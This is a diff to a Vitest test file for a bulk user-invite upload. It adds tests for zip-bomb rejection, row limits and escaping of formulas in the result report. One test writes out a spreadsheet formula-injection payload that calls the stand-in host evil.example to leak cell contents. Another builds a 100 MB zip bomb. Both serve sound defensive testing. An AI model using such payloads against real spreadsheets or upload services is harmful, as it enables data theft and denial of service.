@@ -1,8 +1,9 @@
 import ExcelJS from 'exceljs';
 import type { TBackgroundJob, TUserPage } from '@procura/shared';
-import { USER_UPLOAD_COLUMNS } from '@procura/shared';
+import { USER_UPLOAD_COLUMNS, USER_UPLOAD_MAX_ROWS } from '@procura/shared';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parseCsv } from '../../platform/csv.js';
+import { zeroBomb } from '../../../test/zip-bomb.js';
 import { DEMO_ACCOUNTS, startTestApp, type TSession, type TTestApp } from '../../../test/harness.js';
 
 let t: TTestApp;
@@ -84,9 +85,51 @@ describe('bulk invite', () => {
     const started = await upload(clientAdmin, 'wrong.csv', 'name,mail\nA,a@example.com\n');
     const job = await finished(clientAdmin, started.body.id);
     expect(job.status).toBe('error');
-    expect(job.error).toMatch(/header row lacks/);
+    expect(job.error).toMatch(/^The header row of "wrong\.csv" lacks First name/);
     const pdf = await upload(clientAdmin, 'people.pdf', 'x');
     expect(pdf.status).toBe(400);
     expect(Object.keys(pdf.body.fieldErrors ?? {})).toEqual(['file']);
+  });
+
+  it('refuses an XLSX that unpacks to 100 MB at upload, naming the file, in milliseconds and without the memory', async () => {
+    const bomb = zeroBomb('xl/worksheets/sheet1.xml', 100 * 1024 * 1024);
+    const before = process.memoryUsage().rss;
+    const started = performance.now();
+    const res = await upload(clientAdmin, 'bomb.xlsx', bomb);
+    const elapsed = performance.now() - started;
+    expect(res.status).toBe(413);
+    expect(res.body).toMatchObject({ message: '"bomb.xlsx" cannot be read: a part of it unpacks to more than 32 MiB.' });
+    expect(Object.keys(res.body.fieldErrors ?? {})).toEqual(['file']);
+    expect(elapsed).toBeLessThan(1000);
+    expect(process.memoryUsage().rss - before).toBeLessThan(50 * 1024 * 1024);
+    const malformed = await upload(clientAdmin, 'renamed.xlsx', 'First name,Last name,Email\n');
+    expect(malformed.status).toBe(400);
+    expect(malformed.body).toMatchObject({ message: expect.stringMatching(/^"renamed\.xlsx" cannot be read: it is not a readable ZIP archive/) });
+  });
+
+  it('stops reading at the row limit, CSV or XLSX, and fails the job naming the file', async () => {
+    const csv = [USER_UPLOAD_COLUMNS.join(','), ...Array.from({ length: USER_UPLOAD_MAX_ROWS + 1 }, (_, i) => `A${i},B,a${i}@example.com`)].join('\n');
+    const fromCsv = await finished(clientAdmin, (await upload(clientAdmin, 'many.csv', csv)).body.id);
+    expect(fromCsv).toMatchObject({ status: 'error', error: `"many.csv" has more than ${USER_UPLOAD_MAX_ROWS} rows; the limit is ${USER_UPLOAD_MAX_ROWS}. Split it and upload each part.` });
+
+    const workbook = new ExcelJS.Workbook();
+    const sheet = workbook.addWorksheet('People');
+    sheet.addRow([...USER_UPLOAD_COLUMNS]);
+    for (let i = 0; i < 50_000; i += 1) sheet.addRow([`A${i}`, 'B', `a${i}@example.com`]);
+    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
+    const started = performance.now();
+    const fromXlsx = await finished(clientAdmin, (await upload(clientAdmin, 'many.xlsx', xlsx)).body.id);
+    expect(fromXlsx).toMatchObject({ status: 'error', error: expect.stringMatching(/^"many\.xlsx" has more than 5000 rows/) });
+    // Stopping at 5,001 of 50,000 rows: well under the time a full parse would take.
+    expect(performance.now() - started).toBeLessThan(10_000);
+  });
+
+  it('writes a result report whose cells cannot run as formulas', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const csv = [USER_UPLOAD_COLUMNS.join(','), `Mal,Lory,"${evil.replaceAll('"', '""')}"`].join('\r\n');
+    const job = await finished(clientAdmin, (await upload(clientAdmin, 'evil.csv', csv)).body.id);
+    const res = await fetch(`${t.baseUrl}/v1/background-jobs/${job.id}/download`, { headers: { authorization: `Bearer ${clientAdmin.accessToken}` } });
+    const rows = parseCsv(await res.text());
+    expect(rows[1].slice(0, 3)).toEqual(['2', `'${evil}`, 'failed']);
   });
 });
